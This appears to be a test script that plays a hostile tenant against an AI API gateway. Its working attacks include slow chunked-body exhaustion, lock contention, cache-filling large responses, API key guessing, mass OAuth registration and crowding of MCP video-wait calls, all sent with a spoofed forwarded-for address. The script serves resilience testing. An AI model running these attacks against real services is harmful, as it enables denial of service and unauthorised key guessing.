// What a hostile tenant does, in a process of its own: `node attacker.ts <attack> <url> <key>`. It goes on until it is
// ended.
import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { Agent, setGlobalDispatcher } from 'undici'

const [attack = '', url = '', key = ''] = process.argv.slice(2)
const { hostname, port } = new URL(url)
const CHAT_PATH = '/v1/chat/completions'
const PATHS = [CHAT_PATH, '/v1/images/generations', '/mcp']
const PAUSE_MS = 500
/** Everything that this process sends says that it comes from one address. */
const ADDRESS = '203.0.113.7'
setGlobalDispatcher(new Agent({ connections: 2_000, headersTimeout: 0, bodyTimeout: 0 }))

const json = (body: object, headers: Record<string, string> = {}): RequestInit => ({
  method: 'POST',
  headers: {
    authorization: `Bearer ${key}`,
    'content-type': 'application/json',
    'x-forwarded-for': ADDRESS,
    ...headers,
  },
  body: JSON.stringify(body),
})
const ask = async (path: string, init: RequestInit) => {
  const answer = await fetch(`${url}${path}`, init).catch(() => undefined)
  await answer?.arrayBuffer().catch(() => undefined)
  return answer
}
const chat = (content: string, more: object = {}) => ({
  model: 'alpha-5.4',
  max_completion_tokens: 50,
  messages: [{ role: 'user', content }],
  ...more,
})

/**
 * A chunked body whose beginning comes at once and whose rest trickles in. Resolves when the gateway has had enough.
 */
function slowBody(path: string, bytes: number): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect(Number(port), hostname)
    const write = (text: string) => socket.write(`${text.length.toString(16)}\r\n${text}\r\n`)
    socket.write(
      `POST ${path} HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer ${key}\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n`,
    )
    write(`{"model":"alpha-5.4","messages":[{"role":"user","content":"${'x'.repeat(bytes)}`)
    const trickle = setInterval(() => write('x'), 500)
    socket.on('error', () => undefined)
    socket.on('data', () => socket.end())
    socket.once('close', () => {
      clearInterval(trickle)
      resolve()
    })
  })
}

/**
 * So many at once, each beginning again a while after it has ended: it is no flood that this is about, but what lasts.
 */
function crowd(count: number, one: (at: number, tries: number) => Promise<unknown>): void {
  for (let at = 0; at < count; at += 1)
    void (async () => {
      for (let tries = 0; ; tries += 1) {
        await one(at, tries)
        await sleep(PAUSE_MS)
      }
    })()
}

/** As clients do that read `retry-after`. */
const politely = async (path: string, init: RequestInit) => {
  const answer = await ask(path, init)
  await sleep(1_000 * Number(answer?.headers.get('retry-after') ?? 0))
}

const ATTACKS: Record<string, () => void | Promise<void>> = {
  /** With a key that has no credits, or one that has some. */
  bodies: () => crowd(150, (at) => slowBody(PATHS[at % PATHS.length]!, 100_000)),
  /** The account's row is locked by somebody. */
  locked: () =>
    crowd(1_000, (at, tries) =>
      politely(CHAT_PATH, json(chat('Hello'), { 'idempotency-key': `locked-${at}-${tries}` })),
    ),
  /** Each answer is kept for its repetition, and is large. */
  large: () =>
    crowd(20, (at, tries) =>
      politely(
        CHAT_PATH,
        json(chat(`Repeat this: ${'word '.repeat(20_000)}`, { max_completion_tokens: 20_000 }), {
          'idempotency-key': `large-${at}-${tries}`,
        }),
      ),
    ),
  guesses: () =>
    crowd(50, (at, tries) =>
      ask('/v1/models', { headers: { authorization: `Bearer sk-${at}-${tries}`, 'x-forwarded-for': ADDRESS } }),
    ),
  registrations: () =>
    crowd(20, () =>
      ask('/oauth/register', json({ client_name: 'Program', redirect_uris: ['http://127.0.0.1:1/callback'] })),
    ),
  /** Of a film that is never done. */
  async waiting() {
    const tool = (name: string, args: object) =>
      fetch(
        `${url}/mcp`,
        json(
          { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name, arguments: args } },
          { accept: 'application/json, text/event-stream' },
        ),
      ).then((answer) => answer.text())
    const begun = await tool('create_video', { model: 'videogen-2.0', prompt: 'A barrier [[stuck]]', duration: 5 })
    const [, job] = /"jobId":"?([^",]+)/.exec(begun) ?? []
    if (job === undefined) throw new Error(`There is no film: ${begun}`)
    crowd(200, () => tool('wait_for_video', { job_id: job, timeout_seconds: 60 }).catch(() => undefined))
  },
}
const start = ATTACKS[attack]
if (!start) throw new Error(`There is no attack called ${attack}: ${Object.keys(ATTACKS).join(', ')}`)
await start()
